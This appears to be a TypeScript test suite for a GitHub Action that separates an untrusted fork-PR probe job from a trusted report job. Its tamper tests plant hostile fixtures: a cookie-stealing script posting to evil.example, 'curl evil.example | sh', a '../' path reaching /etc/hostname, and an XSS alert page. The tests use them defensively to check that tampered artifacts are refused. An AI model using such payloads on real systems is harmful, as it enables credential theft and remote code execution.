// Split mode end to end: `mode: probe` on the "NPU runner" (fork PR, no token) uploads the run
// dir; `mode: report` in a workflow_run job downloads it, checks it belongs to the triggering
// run's head commit, judges it and comments. The run dir is untrusted input throughout.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { FakeGitHub } from '../helpers/github-server.ts';
import { makeGitRemote, git, type GitRemote } from '../helpers/git-remote.ts';
import { runAction, openArtifact, putArtifact, tamperedCopy, assertIsolation, type ActionRunResult } from '../helpers/action-run.ts';
import { fixture } from '../helpers/rundir.ts';
import { META_FILE, META_SCHEMA, type RunMeta } from '../../src/github/split.ts';
import { ensureDist } from '../helpers/dist.ts';
import { pullRequestEvent, workflowRunEvent } from '../helpers/events.ts';
import { chooseIsolation } from '../../src/probe/isolate.ts';

const MODEL = 'programming_examples/llms/tiny_llama';
const SHA = 'c'.repeat(40);
const PROBE_RUN = 5001;

function show(r: ActionRunResult): string {
  return `exit ${r.code}\n--- stdout\n${r.stdout.slice(-4000)}\n--- stderr\n${r.stderr.slice(-2000)}`;
}

interface Ctx {
  remote: GitRemote;
  trusted: string;
  gh: FakeGitHub;
  artifacts: string;
  index: string;
  runId: number;
  /** The artifact the probe job uploaded. */
  probeArtifact: string;
}
const s = suite<Ctx>('action: split mode (probe on the NPU runner, report from workflow_run)');

s.before(async (ctx) => {
  ctx.index = await ensureDist();
  ctx.remote = makeGitRemote();
  // The report job checks out the default branch on a GitHub-hosted runner: a second clone.
  ctx.trusted = join(ctx.remote.root, 'trusted');
  git(ctx.remote.root, ['clone', '--quiet', ctx.remote.bare, ctx.trusted]);
  ctx.artifacts = join(ctx.remote.root, 'artifacts');
  ctx.gh = await new FakeGitHub({ pulls: [{ number: 12, headSha: SHA, headRepo: 'mallory/mlir-air' }], checkResponses: true }).start();
  ctx.runId = 6000;
});
s.after(async (ctx) => {
  await ctx.gh?.stop();
  assert.equal(ctx.gh.problems, []);
});

function report(ctx: Ctx, o: { probeRun: number; headSha: string; pullRequests?: number[] }) {
  ctx.runId += 1;
  return runAction({
    index: ctx.index, workspace: ctx.trusted, eventName: 'workflow_run', runId: ctx.runId, job: 'report',
    payload: workflowRunEvent({ runId: o.probeRun, headSha: o.headSha, event: 'pull_request', pullRequests: o.pullRequests, fork: true }),
    apiUrl: ctx.gh.url, artifactDir: ctx.artifacts, inputs: { 'model-dir': MODEL, mode: 'report', 'github-token': 'ghs_writer' },
  });
}

s('mode probe runs on the fork PR with no token, uploads the run dir, and calls no API', async (ctx) => {
  const r = await runAction({
    index: ctx.index, workspace: ctx.remote.work, eventName: 'pull_request', runId: PROBE_RUN, job: 'probe',
    payload: pullRequestEvent({ number: 12, headSha: SHA, fork: true }), apiUrl: ctx.gh.url, artifactDir: ctx.artifacts,
    inputs: { 'model-dir': MODEL, mode: 'probe', 'github-token': '' },
  });
  assert.is(r.code, 0, show(r));
  assertIsolation(r, 'isolated');
  assert.is(r.outputs.outcome, 'probed');
  assert.is(ctx.gh.calls.length, 0, 'no token, no traffic');
  ctx.probeArtifact = r.outputs['artifact-name'];
  const art = await openArtifact(ctx.artifacts, PROBE_RUN, r.outputs['artifact-name']);
  for (const f of ['probe.json', 'block0.npu.npy', 'block0.ref.npy', 'github.json']) assert.ok(existsSync(join(art, f)), f);
  assert.not.ok(existsSync(join(art, 'report.json')), 'the verdict is not decided on the untrusted side');
  const meta = JSON.parse(readFileSync(join(art, 'github.json'), 'utf8'));
  assert.is(meta.head_sha, SHA);
  assert.is(meta.pr_number, 12);
  // How the fork's code was isolated: in github.json, the probe job's summary and its outputs.
  const mode = chooseIsolation({ mode: 'auto', untrusted: true, allowUnisolated: false }).mode;
  assert.is(meta.isolation.mode, mode);
  assert.is(r.outputs.isolation, mode);
  assert.match(r.summary, `Probe isolation: **${mode}**`);
});

s('mode report downloads it, checks the head SHA, judges and comments on the fork PR', async (ctx) => {
  const r = await report(ctx, { probeRun: PROBE_RUN, headSha: SHA });
  assert.is(r.code, 0, show(r));
  assertIsolation(r, 'isolated', 'probe job');
  assert.is(r.outputs.outcome, 'pass');
  assert.is(r.outputs.g4, 'skip', 'a PR-triggered run records no documents');
  const c = ctx.gh.commentsOn(12);
  assert.is(c.length, 1);
  assert.match(c[0].body, 'Phase 2 PASS');
  assert.match(c[0].body, SHA.slice(0, 12));
  // The isolation is the probe job's word (github.json), marked so in every rendering.
  assert.match(c[0].body, /\| probe isolation +\| (uid|namespace): .*\\?\(as the probe job reported\\?\)/);
  assert.match(r.summary, /\| probe isolation +\| (uid|namespace): .*\\?\(as the probe job reported\\?\)/);
  const judged = JSON.parse(readFileSync(r.outputs['report-path'], 'utf8'));
  assert.is(judged.isolation.source, 'probe job');
  assert.ok(ctx.gh.calls.some((x) => x.route === '/repos/{owner}/{repo}/pulls/{pull_number}'), 'the PR number from the artifact was verified');
  assert.equal(ctx.remote.branches(), ['main'], 'nothing pushed');
  // The report job uploads its own judged artifact.
  assert.ok(existsSync(join(await openArtifact(ctx.artifacts, ctx.runId, r.outputs['artifact-name']), 'report.json')));
});

s('a run dir for another commit is refused: error, not FAIL, and no comment', async (ctx) => {
  const writes = ctx.gh.writes().length;
  const r = await report(ctx, { probeRun: PROBE_RUN, headSha: 'd'.repeat(40) });
  assert.is(r.code, 1, show(r));
  assert.is(r.outputs.outcome, 'error');
  assert.match(r.stdout, 'does not match');
  assert.not.match(r.stdout, 'Phase 2 FAIL');
  assert.is(ctx.gh.writes().length, writes, 'no comment about the wrong commit');
});

s('no artifact in the triggering run is an error that says what to check', async (ctx) => {
  const r = await report(ctx, { probeRun: 9999, headSha: SHA });
  assert.is(r.code, 1, show(r));
  assert.is(r.outputs.outcome, 'error');
  assert.match(r.stdout, 'did the mode probe job upload one');
});

s('a tampered run dir (a tensor path leaving the run dir) is refused as input, never judged', async (ctx) => {
  await tamperedCopy(ctx.artifacts, PROBE_RUN, 5002, ctx.probeArtifact, (dir) => {
    const probePath = join(dir, 'probe.json');
    const probe = JSON.parse(readFileSync(probePath, 'utf8'));
    probe.tensors.npu.file = '../../../../../../etc/hostname';
    writeFileSync(probePath, JSON.stringify(probe));
  });
  const writes = ctx.gh.writes().length;
  const r = await report(ctx, { probeRun: 5002, headSha: SHA });
  assert.is(r.code, 1, show(r));
  assert.is(r.outputs.outcome, 'error');
  assert.not.match(r.stdout, 'Phase 2 FAIL');
  const body = ctx.gh.commentsOn(12)[0].body;
  assert.ok(ctx.gh.writes().length <= writes + 1);
  assert.not.match(body, 'FAIL**');
});

s('the probe job\'s artifact comes through the one door: a page, a report and a script it planted are neither judged, posted nor uploaded again', async (ctx) => {
  await tamperedCopy(ctx.artifacts, PROBE_RUN, 5003, ctx.probeArtifact, (dir) => {
    writeFileSync(join(dir, 'report.html'), '<script>fetch("https://evil.example/?t=" + document.cookie)</script>');
    writeFileSync(join(dir, 'report.json'), JSON.stringify({ schema: 'npu-block-gate/report', outcome: 'pass', forged: true }));
    writeFileSync(join(dir, 'run.sh'), 'curl evil.example | sh\n');
    writeFileSync(join(dir, 'boundaries.html'), '<script>alert(1)</script>');
  });
  const r = await report(ctx, { probeRun: 5003, headSha: SHA });
  assert.is(r.code, 0, show(r));
  assert.is(r.outputs.outcome, 'pass');
  const up = await openArtifact(ctx.artifacts, ctx.runId, r.outputs['artifact-name']);
  assert.not.ok(existsSync(join(up, 'run.sh')), 'a file outside the contract was uploaded again');
  assert.not.ok(existsSync(join(up, 'boundaries.html')), 'a page of its own was uploaded again');
  assert.not.match(readFileSync(join(up, 'report.html'), 'utf8'), 'evil.example', 'the planted page was uploaded again');
  assert.not.ok(JSON.parse(readFileSync(join(up, 'report.json'), 'utf8')).forged, 'the planted report was kept');
});

s.run();

// ---------------------------------------------------------------------------------------------
const more = suite<Ctx>('action: split mode errors and run-id');

more.before(async (ctx) => {
  ctx.index = await ensureDist();
  ctx.remote = makeGitRemote();
  ctx.trusted = join(ctx.remote.root, 'trusted');
  git(ctx.remote.root, ['clone', '--quiet', ctx.remote.bare, ctx.trusted]);
  ctx.artifacts = join(ctx.remote.root, 'artifacts');
  ctx.gh = await new FakeGitHub({
    gitRemote: ctx.remote.bare,
    pulls: [{ number: 12, headSha: SHA, headRepo: 'mallory/mlir-air' }],
    workflowRuns: [
      { id: 5101, head_sha: SHA, event: 'pull_request', head_repository: 'mallory/mlir-air', pull_requests: [] },
      { id: 5102, head_sha: SHA, event: 'pull_request', head_repository: 'mallory/mlir-air', pull_requests: [] },
    ],
    checkResponses: true,
  }).start();
  ctx.runId = 6100;
});
more.after(async (ctx) => {
  await ctx.gh?.stop();
  assert.equal(ctx.gh.problems, []);
});

more('a probe job that cannot run uploads its run dir and error; the report job comments ERROR on the PR', async (ctx) => {
  const p = await runAction({
    index: ctx.index, workspace: ctx.remote.work, eventName: 'pull_request', runId: 5101, job: 'probe',
    payload: pullRequestEvent({ number: 12, headSha: SHA, fork: true }), apiUrl: ctx.gh.url, artifactDir: ctx.artifacts,
    inputs: { 'model-dir': MODEL, mode: 'probe', 'github-token': '', python: '/nonexistent/python3' },
  });
  assert.is(p.code, 1, show(p));
  assert.is(p.outputs.outcome, 'error');
  assert.ok(p.outputs['artifact-name'], 'uploaded even though the probe failed');
  const meta = JSON.parse(readFileSync(join(await openArtifact(ctx.artifacts, 5101, p.outputs['artifact-name']), 'github.json'), 'utf8'));
  assert.match(meta.probe_error.message, '/nonexistent/python3');
  assert.is(meta.probe_error.exit_code, 2);
  ctx.runId += 1;
  const r = await runAction({
    index: ctx.index, workspace: ctx.trusted, eventName: 'workflow_run', runId: ctx.runId, job: 'report',
    payload: workflowRunEvent({ runId: 5101, headSha: SHA, event: 'pull_request', fork: true }),
    apiUrl: ctx.gh.url, artifactDir: ctx.artifacts, inputs: { 'model-dir': MODEL, mode: 'report', 'github-token': 'ghs_writer' },
  });
  assert.is(r.code, 1, show(r));
  assert.is(r.outputs.outcome, 'error');
  const c = ctx.gh.commentsOn(12);
  assert.is(c.length, 1);
  assert.match(c[0].body, 'Phase 2 ERROR');
  assert.match(c[0].body, 'the probe job could not run the check');
  assert.not.match(c[0].body, 'FAIL**');
});

more("workflow_dispatch with run-id of a fork's run: judged as that run (its head, untrusted), never recorded as main's", async (ctx) => {
  // The fork's probe job, recorded: a probe's run dir and the github.json mode probe writes (no probe here).
  const f = fixture({ probe: (pj) => { pj.model.name = 'tiny_llama'; pj.model.dir = MODEL; } });
  const meta: RunMeta = {
    schema: META_SCHEMA, schema_version: 1, repository: 'acme/mlir-air', event: 'pull_request', head_sha: SHA, sha: null, checkout_sha: SHA,
    pr_number: 12, run_id: 5102, run_attempt: 1, model: MODEL, probe_error: null,
    isolation: { mode: 'namespace', detail: 'bubblewrap: user+pid+mount+ipc+net namespaces, private /proc, read-only root', degraded: null },
  };
  writeFileSync(join(f.runDir, META_FILE), JSON.stringify(meta, null, 2));
  await putArtifact(ctx.artifacts, 5102, 'npu-block-gate-programming_examples__llms__tiny_llama-attempt1', f.runDir);
  ctx.runId += 1;
  const r = await runAction({
    index: ctx.index, workspace: ctx.trusted, eventName: 'workflow_dispatch', runId: ctx.runId, job: 'report', sha: ctx.remote.baseSha,
    payload: { inputs: {}, ref: 'refs/heads/main', repository: { full_name: 'acme/mlir-air', default_branch: 'main' } },
    apiUrl: ctx.gh.url, artifactDir: ctx.artifacts, inputs: { 'model-dir': MODEL, mode: 'report', 'github-token': 'ghs_writer', 'run-id': '5102' },
  });
  assert.is(r.code, 0, show(r));
  assert.match(r.stdout, 'run 5102 (run-id lookup): pull_request from mallory/mlir-air');
  assert.match(r.stdout, 'untrusted');
  assert.is(r.outputs.g4, 'skip', 'no documents from a fork');
  assert.equal(ctx.remote.branches(), ['main'], 'nothing pushed');
  const report = JSON.parse(readFileSync(r.outputs['report-path'], 'utf8'));
  assert.is(report.commit, SHA, "the fork's head, not main's GITHUB_SHA");
  assert.ok(ctx.gh.calls.some((c) => c.route === '/repos/{owner}/{repo}/actions/runs/{run_id}'), 'the run was looked up');
});

more.run();
